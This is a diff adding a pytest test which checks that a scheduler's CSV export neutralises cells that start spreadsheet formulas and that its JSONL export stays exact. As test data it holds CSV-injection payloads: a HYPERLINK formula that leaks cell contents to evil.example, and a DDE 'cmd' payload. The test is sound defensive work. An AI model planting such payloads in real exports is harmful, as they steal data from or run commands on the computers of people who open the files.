@@ -3,6 +3,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import socket
@@ -154,3 +155,33 @@ def test_json_output_stays_exact_with_hidden_characters_escaped(capsys: pytest.C
     print_json({"name": HOSTILE})
     out = capsys.readouterr().out
     assert "\u202e" not in out and json.loads(out) == {"name": HOSTILE}
+
+
+# --- 4. CSV exports do not run formulas; JSONL stays exact ----------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2, "details")'
+
+
+def test_csv_cells_that_start_a_formula_are_neutralised_and_jsonl_is_exact() -> None:
+    from scheduler.api.exports import export_deliveries
+
+    texts = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "-5", "ok = fine"]
+    items = [
+        {"id": f"j{n}", "to": text, "account": "a", "status": "dead", "attempts": 1, "result": {"new_msg_id": "-5"},
+         "vendor": "gewe", "sent_at": None, "reason": "permanent", "error": text, "recall": None, "recall_error": None}
+        for n, text in enumerate(texts)
+    ]  # fmt: skip
+
+    class Deliveries:
+        def deliveries(self, cid: str, **_: object) -> tuple[list[dict[str, object]], None]:
+            return items, None
+
+    def export(fmt: str) -> str:
+        chunks = export_deliveries(Deliveries(), "c1", status=None, fmt=fmt, timezone_of=lambda _: "UTC")  # type: ignore[arg-type]
+        return "".join(chunks)
+
+    rows = list(csv.DictReader(io.StringIO(export("csv"))))
+    expected = ["'" + t for t in texts[:6]] + ["-5", "ok = fine"]
+    assert [r["error"] for r in rows] == expected and [r["to"] for r in rows] == expected
+    assert {r["new_msg_id"] for r in rows} == {"-5"}
+    assert [json.loads(line)["error"] for line in export("jsonl").splitlines()] == texts
